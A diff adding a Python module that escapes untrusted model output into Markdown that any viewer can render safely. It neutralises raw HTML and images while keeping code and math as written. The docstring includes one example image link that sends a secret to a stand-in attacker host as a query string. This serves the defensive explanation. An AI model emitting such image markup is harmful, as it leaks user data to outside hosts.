@@ -1,0 +1,169 @@
+"""Markdown that is safe to open in any viewer: no raw HTML and no images, code and math kept as written.
+
+An export is opened where we do not control the renderer: JupyterLab's Markdown Preview, a trusted notebook's
+Markdown cells (where raw HTML runs), VS Code, GitHub. Model output is untrusted, so the Markdown we write must
+not be able to make any of them run script or fetch something on its own. Two constructs can: raw HTML (`<img>`,
+`<script>`, `<video>`, event handlers...) and images (`![](https://evil.example/?q=secret)`). So:
+
+  * outside code, every `<` that could open a tag, a comment or an autolink (`<` then a letter, `/`, `!` or `?`:
+    HTML and CommonMark alike read any other `<` as text) becomes `&lt;`, an entity that shows as `<`;
+  * outside code, every image opener `![` gets its `!` backslash-escaped, so the image is a plain link;
+  * inside math (`$…$`, `$$…$$`, `\\(…\\)`, `\\[…\\]`) such a `<` becomes `\\lt ` and `![` becomes `!{[}`, which
+    TeX typesets the same and which are inert where math is not understood (`x < y` stays as written);
+  * inside code spans and code blocks nothing changes: every renderer shows code as text.
+
+That leaves code as the one place where `<` stays, so safety rests on every renderer agreeing on what is code.
+The result is parsed again (markdown-it-py, CommonMark + GFM tables) and must contain no HTML and no image;
+if it does (a document crafted so that parsers disagree on a code span), the whole text is escaped bluntly, code
+included: uglier, but safe in every renderer, because then there is no `<` and no unescaped `![` anywhere.
+"""
+
+from __future__ import annotations
+
+import functools
+import re
+
+from markdown_it import MarkdownIt
+
+__all__ = ["escape_markdown", "safe_markdown"]
+
+#: A backslash escape (CommonMark: any ASCII punctuation), a run of backticks, a math opener, a `<` that could
+#: open markup, or `![`.
+_INLINE = re.compile(r"""\\<(?=[A-Za-z/!?])|\\[!-/:-@\[-`{-~]|`+|\$\$|\$|\\\(|\\\[|<(?=[A-Za-z/!?])|!\[""")
+_MARKUP_LT = re.compile(r"<(?=[A-Za-z/!?])")
+_CLOSERS = {"$$": "$$", "$": "$", "\\(": "\\)", "\\[": "\\]"}
+#: Math must close within this many characters (and `$…$` on its line), or the opener is ordinary text.
+_MATH_SPAN = 4000
+#: What can start inline markup (emphasis, code, links, entities, math, strikethrough, a table cell's end).
+_MARKUP = re.compile(r"([\\`*_\[\]!&$~|])")
+
+
+@functools.cache
+def _parser() -> MarkdownIt:
+    # html=True: the check below must see raw HTML where a viewer would.
+    return MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
+
+
+def escape_markdown(text: str) -> str:
+    """`text` shown literally by any Markdown renderer, on one line: every character that starts inline markup
+    backslash-escaped and `<` written as `&lt;`.
+
+    For our own values in a Markdown template (a chat name, a model name, a note), which are text, not Markdown.
+    """
+    flat = " ".join(text.split())  # one line: a newline would end a heading or a table row
+    return _MARKUP.sub(r"\\\1", flat).replace("<", "&lt;")
+
+
+def safe_markdown(text: str) -> str:
+    """`text` with raw HTML escaped and images made links, code and math as written (see the module docstring)."""
+    lines = text.splitlines(keepends=True)
+    code = _code_lines(text)
+    out: list[str] = []
+    run: list[str] = []
+    for index, line in enumerate(lines):
+        if index in code:
+            out.append(_escape_inline("".join(run)))
+            run = []
+            out.append(line)
+        else:
+            run.append(line)
+    out.append(_escape_inline("".join(run)))
+    result = "".join(out)
+    if not _inert(result):
+        result = _escape_bluntly(text)
+    return result
+
+
+def _code_lines(text: str) -> set[int]:
+    """Indexes of the lines inside fenced or indented code blocks (fence lines included), as CommonMark has them."""
+    lines: set[int] = set()
+    for token in _parser().parse(text):
+        if token.type in ("fence", "code_block") and token.map:
+            lines.update(range(*token.map))
+    return lines
+
+
+def _escape_inline(text: str) -> str:
+    """Escape a run of lines that holds no code block: code spans kept, math made inert, the rest escaped."""
+    out: list[str] = []
+    position = 0
+    while (match := _INLINE.search(text, position)) is not None:
+        start, token = match.start(), match.group()
+        out.append(text[position:start])
+        position = match.end()
+        if token[0] == "\\" and token not in _CLOSERS:
+            out.append("&lt;" if token == "\\<" else token)  # `\<` is a literal `<`: same as the entity
+        elif token[0] == "`":
+            end = _code_span_end(text, position, token)
+            if end is None:
+                out.append(token)  # no closing run: the backticks are text
+            else:
+                out.append(text[start:end])
+                position = end
+        elif token == "<":
+            out.append("&lt;")
+        elif token == "![":
+            out.append("\\![")
+        else:  # a math opener
+            end = _math_end(text, position, token)
+            if end is None:
+                out.append(token)
+            else:
+                out.append(token + _inert_math(text[position:end]))
+                position = end
+    out.append(text[position:])
+    return "".join(out)
+
+
+def _code_span_end(text: str, position: int, opener: str) -> int | None:
+    """Where a code span opened by `opener` ends (after its closing run), or None: CommonMark's rule, within a
+    paragraph (a blank line ends the search)."""
+    paragraph_end = _blank_line(text, position)
+    for run in re.finditer("`+", text[position:paragraph_end]):
+        if len(run.group()) == len(opener):
+            return position + run.end()
+    return None
+
+
+def _math_end(text: str, position: int, opener: str) -> int | None:
+    """The offset of the closing delimiter's end, or None when `opener` opens no math."""
+    closer = _CLOSERS[opener]
+    if opener == "$" and (position >= len(text) or text[position] in " \t\n" or text[position].isdigit()):
+        return None  # "$ 5" or "$5": money, not math
+    limit = min(len(text), position + _MATH_SPAN, _blank_line(text, position))
+    if opener == "$":
+        newline = text.find("\n", position)
+        limit = min(limit, newline if newline >= 0 else len(text))
+    end = text.find(closer, position, limit)
+    while end >= 0 and text[end - 1] == "\\":  # an escaped closer does not close
+        end = text.find(closer, end + 1, limit)
+    if end <= position:
+        return None
+    return end + len(closer)
+
+
+def _inert_math(math: str) -> str:
+    """Math source (closer included) where `<` and `![` can no longer be HTML or an image outside a TeX engine."""
+    return _MARKUP_LT.sub("\\\\lt ", math).replace("![", "!{[}")
+
+
+def _blank_line(text: str, position: int) -> int:
+    match = re.compile(r"\n[ \t]*\n").search(text, position)
+    return match.start() if match else len(text)
+
+
+def _inert(markdown: str) -> bool:
+    """True when a CommonMark + GFM parser finds no raw HTML and no image in `markdown`."""
+    for token in _parser().parse(markdown):
+        if token.type == "html_block":
+            return False
+        for child in token.children or ():
+            if child.type in ("html_inline", "image"):
+                return False
+    return True
+
+
+def _escape_bluntly(text: str) -> str:
+    """No `<` and no image anywhere, code included: safe whatever a renderer thinks is code."""
+    text = text.replace("<", "&lt;")
+    return re.sub(r"(?<!\\)((?:\\\\)*)!\[", r"\1\\![", text)
